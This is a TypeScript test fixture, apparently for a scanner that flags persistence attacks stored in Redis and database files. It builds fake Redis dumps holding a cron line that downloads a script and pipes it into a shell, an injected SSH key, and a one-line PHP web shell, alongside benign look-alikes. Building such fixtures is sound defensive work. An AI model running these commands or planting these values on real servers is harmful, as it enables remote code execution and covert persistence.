import { readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import type { Blamed, Pair } from './pair.ts';

/** A string as Redis keeps it in a dump: shorter than 64 bytes, or with its length in 32 bits. */
function string(text: string): Buffer {
  const bytes = Buffer.from(text);
  if (bytes.length < 64) return Buffer.concat([Buffer.from([bytes.length]), bytes]);
  const length = Buffer.alloc(5, 0x80);
  length.writeUInt32BE(bytes.length, 1);
  return Buffer.concat([length, bytes]);
}

function dump(keys: Readonly<Record<string, string>>): { readonly bytes: Uint8Array } {
  const entries = Object.entries(keys).flatMap(([key, value]) => [
    Buffer.from([0]),
    string(key),
    string(value),
  ]);
  const head = [Buffer.from('REDIS0011'), Buffer.from([0xfa]), string('redis-ver'), string('7.2.4')];
  return {
    bytes: Buffer.concat([...head, Buffer.from([0xfe, 2]), ...entries, Buffer.from([0xff]), Buffer.alloc(8)]),
  };
}

const words = (...all: readonly string[]): string =>
  `*${all.length}\r\n${all.map((word) => `$${Buffer.byteLength(word)}\r\n${word}\r\n`).join('')}`;

const CRON = '\n\n\n*/2 * * * * root curl -fsSL http://203.0.113.7/a.sh | sh\n\n';
const KEY = `\n\n\nssh-rsa AAAAB3NzaC1yc2E${'A'.repeat(80)} miner@x\n\n`;

/**
 * Pages as PostgreSQL 15 with pg_cron 1.4 and MariaDB 10.11 wrote them, packed, by path: a job and a function that fetch, one
 * of each that was removed or taken back, ordinary ones beside them, a second superuser.
 */
const FILES: Readonly<Record<string, string>> = JSON.parse(
  readFileSync(new URL('../fixtures/database-files.json', import.meta.url), 'utf8'),
);
const written = Object.fromEntries(
  Object.entries(FILES).map(([path, packed]) => [path, { bytes: gunzipSync(Buffer.from(packed, 'base64')) }]),
);
const CLUSTER = '/var/lib/postgresql/15/main';
const JOBS = '/var/lib/mysql/xxl_job/xxl_job_info.ibd';

export const pair: Pair = {
  tree: {
    ...written,
    '/etc/redis/redis.conf': 'dir /srv/redis\ndbfilename data.rdb\nappendonly yes\n',
    '/srv/redis/data.rdb': dump({
      x: CRON,
      crackit: KEY,
      'job:nightly': '{"cron":"0 3 * * *","command":"/usr/local/bin/report"}',
      review: '* * * * * five stars, would buy again',
      page: 'How to install: open a shell and type\n\n*/5 * * * * curl http://203.0.113.9/x | sh\n',
      key: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHHHHHHHHHHHHHHHHHHHHHHHHHHHHHHHHHHHHHHHHHHHH ann@laptop',
    }),
    '/srv/redis/appendonlydir/appendonly.aof.1.incr.aof':
      words('SELECT', '0') +
      words('SET', 'backup1', CRON.replace('a.sh', 'b.sh')) +
      words('SET', 'gone', CRON) +
      words('DEL', 'gone') +
      words('SET', 'shell', '<?php @eval($_POST["x"]);?>'),
  },
  blamed: [
    at('/srv/redis/data.rdb', 'key x of', 'malicious', 'fetch-pipe-shell'),
    at('/srv/redis/data.rdb', 'key crackit of', 'suspicious', 'stored-key'),
    at('/srv/redis/appendonlydir/appendonly.aof.1.incr.aof', 'key backup1', 'malicious', 'stored-cron-line'),
    at('/srv/redis/appendonlydir/appendonly.aof.1.incr.aof', 'key shell', 'suspicious', 'stored-page'),
    at(`${CLUSTER}/base/5/16387`, 'job 2 of pg_cron', 'malicious', 'runs-program'),
    at(`${CLUSTER}/base/5/1255`, 'function up', 'malicious', 'fetch-pipe-shell'),
    at(JOBS, 'x.sh', 'malicious', 'fetch-pipe-shell'),
    at(JOBS, 'y.sh', 'malicious', 'fetch-pipe-shell'),
  ],
  passed: [
    'job 1 of pg_cron',
    'job 3 of pg_cron',
    'function system',
    'function plain',
    'superuser backup2',
    'reports.example',
    ...['job:nightly', 'key review', 'key page', 'key key', 'key gone'],
  ],
};

function at(path: string, title: string, verdict: Blamed['verdict'], code: string): Blamed {
  return { path, title, verdict, code, attack: 'T1053' };
}
